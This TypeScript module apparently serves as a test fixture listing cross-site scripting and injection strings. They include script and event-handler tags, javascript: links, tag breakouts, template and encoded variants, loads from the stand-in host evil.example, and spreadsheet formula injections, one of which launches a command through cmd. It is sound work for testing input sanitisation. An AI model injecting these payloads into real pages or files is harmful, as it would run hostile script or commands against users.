/**
 * Texts that run, ask a host or hide what they say wherever they are put into a page as anything but text. Each that
 * can run calls `xss`, each that can ask asks `evil.example`.
 */
export const PAYLOADS: readonly string[] = [
  // Elements
  '<script>xss(1)</script>',
  '<ScRiPt>xss(2)</sCrIpT>',
  '<script src=https://evil.example/3.js></script>',
  '<img src=x onerror=xss(4)>',
  '<img src=https://evil.example/5.png>',
  '<svg onload=xss(6)>',
  '<svg><script>xss(7)</script></svg>',
  '<svg><animate onbegin=xss(8) attributeName=x dur=1s>',
  '<body onload=xss(9)>',
  '<iframe src="javascript:xss(10)"></iframe>',
  '<iframe srcdoc="<script>parent.xss(11)</script>"></iframe>',
  '<object data="javascript:xss(12)"></object>',
  '<details open ontoggle=xss(13)>',
  '<input autofocus onfocus=xss(14)>',
  '<video><source onerror=xss(15)></video>',
  '<math><mtext><img src=x onerror=xss(16)></mtext></math>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/17">',
  '<base href="https://evil.example/18/">',
  '<link rel=stylesheet href=https://evil.example/19.css>',
  '<form action="javascript:xss(20)"><button>go</button></form>',
  '<template><img src=x onerror=xss(21)></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss(22)>">',
  // Ends of what they may stand in
  '</script><script>xss(23)</script>',
  '</style><img src=x onerror=xss(24)>',
  '</title></textarea></text></svg><script>xss(25)</script>',
  '"><img src=x onerror=xss(26)>',
  "' onmouseover='xss(27)' x='",
  '" autofocus onfocus="xss(28)" x="',
  '--><script>xss(29)</script><!--',
  ']]><script>xss(30)</script><![CDATA[',
  // Links, Markdown and templates
  'javascript:xss(31)',
  '[a](javascript:xss(32)) ![b](https://evil.example/32.png)',
  '[c](JaVaScRiPt:xss(33)) <javascript:xss(33)> [d](data:text/html,<script>xss(33)</script>)',
  '[e]: javascript:xss(34)',
  '`</code><img src=x onerror=xss(35)>`',
  '{{constructor.constructor("xss(36)")()}} ${xss(36)} {@html "<img src=x onerror=xss(36)>"} <%= xss(36) %>',
  // Written another way
  '&lt;img src=x onerror=xss(37)&gt; &#60;script&#62;xss(37)&#60;/script&#62;',
  '%3Cscript%3Exss(38)%3C/script%3E \\u003cscript\\u003exss(38)\\u003c/script\\u003e',
  '\uff1cscript\uff1exss(39)\uff1c/script\uff1e <\u0130mg src=x onerror=xss(39)>',
  'java\tscript:xss(40) <img src=x one\u200brror=xss(40)>',
  // A spreadsheet, a style sheet, an order of letters
  '=HYPERLINK("https://evil.example/41","xss(41)")',
  "@SUM(1)|cmd|'/C calc'!A0",
  '+xss(43);background:url(https://evil.example/43.png);x:expression(xss(43))',
  '\u202e)44(ssx\u202c \u2066tfel\u2069',
];

/** All of them in one text; short enough for every field that a person can fill. */
export const CORPUS = PAYLOADS.join(' ~ ');
/** For fields of few letters. */
export const SHORT = '<img src=x onerror=xss(99)>';
